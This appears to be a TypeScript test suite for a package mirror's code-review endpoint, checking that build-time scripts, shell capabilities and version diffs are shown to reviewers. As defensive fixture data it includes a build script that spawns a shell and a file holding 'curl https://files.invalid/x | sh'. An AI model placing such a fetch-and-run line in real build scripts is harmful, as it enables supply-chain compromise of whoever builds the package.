/** What a person is shown of a release's code: the files that run at build time, what they can do, and what is new. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { CodeJson } from '../../src/server/code-contract.ts';
import { stage } from '../support/stage.ts';

const plain = 'fn main() { println!("cargo::rerun-if-changed=build.rs"); }\n';
const loads =
  'fn main() {\n    std::process::Command::new("sh").arg("native/configure").status().unwrap();\n}\n';

const code = async (s: Awaited<ReturnType<typeof stage>>, path: string) => {
  const answer = await s.mirror.call(`/api/v1/releases/${path}`);
  const text = await answer.text();
  return { status: answer.status, text, json: () => JSON.parse(text) as CodeJson };
};

describe('the code of a release', () => {
  test('is shown with what it can do, and with what differs from the version before', async (t) => {
    const s = await stage(t);
    s.publish('tool', '1.0.0', { buildScript: plain, lib: '' });
    await s.index('tool');
    s.publish('tool', '1.1.0', {
      pubtime: s.clock.iso(),
      buildScript: loads,
      lib: 'pub fn quiet() {}\n',
      files: {
        'native/configure': 'curl https://files.invalid/x | sh\n',
      },
    });
    await s.pass('10m');
    await s.download('tool', '1.0.0');
    const shown = (await code(s, 'tool/1.1.0/code')).json();
    assert.equal(shown.tier, 'build-script');
    assert.equal(shown.against, '1.0.0');
    assert.deepEqual(
      shown.files.map(({ path }) => path),
      ['build.rs', 'native/configure'],
    );
    assert.equal(shown.files[0]?.text, loads);
    const shell = shown.capabilities.find(({ kind }) => kind === 'shell' || kind === 'process');
    assert.deepEqual([shell?.file, shell?.line, shell?.grave], ['build.rs', 2, true]);
    assert.ok(shown.capabilities.some(({ file, grave }) => file === 'native/configure' && grave));
    assert.deepEqual(
      shown.diff.map(({ kind, item, file }) => [kind, item, file]),
      [
        ['changed', 'fn main', 'build.rs'],
        ['added', 'file native/configure', 'native/configure'],
      ],
    );
    const [gap, length, colour] = shown.files[0]?.colours ?? [];
    assert.deepEqual([gap, length, shown.colours[colour ?? -1]], [0, 2, 'keyword'], '`fn`');
    assert.equal((await s.release('tool', '1.1.0')).state, 'review', 'looking decides nothing');

    const alone = (await code(s, 'tool/1.0.0/code')).json();
    assert.equal(alone.against, undefined);
    assert.deepEqual(alone.diff, []);
    const backwards = (await code(s, 'tool/1.0.0/code?against=1.1.0')).json();
    assert.deepEqual([backwards.against, backwards.diff.length], ['1.1.0', 2]);
  });

  test('is read beside what is handed out: what waits between the two hides nothing', async (t) => {
    const s = await stage(t);
    s.publish('tool', '1.0.0', { buildScript: plain, lib: '' });
    await s.index('tool');
    for (const version of ['1.1.0', '1.2.0'])
      s.publish('tool', version, { pubtime: s.clock.iso(), buildScript: loads, lib: '' });
    await s.pass('10m');
    await s.download('tool', '1.2.0');
    assert.equal((await s.release('tool', '1.1.0')).state, 'review');
    const shown = (await code(s, 'tool/1.2.0/code')).json();
    assert.deepEqual([shown.against, shown.againstState], ['1.0.0', 'promoted']);
    assert.deepEqual(
      shown.diff.map(({ item }) => item),
      ['fn main'],
    );
    const added = shown.capabilities.filter((one) => one.added === true);
    assert.deepEqual(
      added.map(({ kind, name, line }) => [kind, name, line]),
      [['shell', 'sh', 2]],
    );
    assert.deepEqual(shown.gone, []);
    const backwards = (await code(s, 'tool/1.0.0/code?against=1.1.0')).json();
    assert.deepEqual(backwards.gone, ['runs a shell (`sh`)']);
    const beside = (await code(s, 'tool/1.2.0/code?against=1.1.0')).json();
    assert.deepEqual([beside.againstState, beside.diff, beside.gone], ['review', [], []]);
    assert.ok(beside.capabilities.every((one) => one.added === undefined));
  });

  test('is refused in words where there is none', async (t) => {
    const s = await stage(t);
    s.publish('tool', '1.0.0', { lib: '' });
    await s.index('tool');
    for (const [path, status, says] of [
      ['tool/9.9.9/code', 404, /has no tool 9\.9\.9/],
      ['nothing/1.0.0/code', 404, /has no nothing/],
      ['tool/1.0.0/code?against=9.9.9', 404, /has no tool 9\.9\.9/],
      ['tool/1.0.0/code?against=', 404, /has no tool/],
    ] as const) {
      const { status: got, text } = await code(s, path);
      assert.equal(got, status, `${path}: ${text}`);
      assert.match(text, says);
    }
    const { tier, files, summary } = (await code(s, 'tool/1.0.0/code')).json();
    assert.deepEqual([tier, files], ['standard', []]);
    assert.match(summary, /^Nothing runs at build time\./);
  });
});
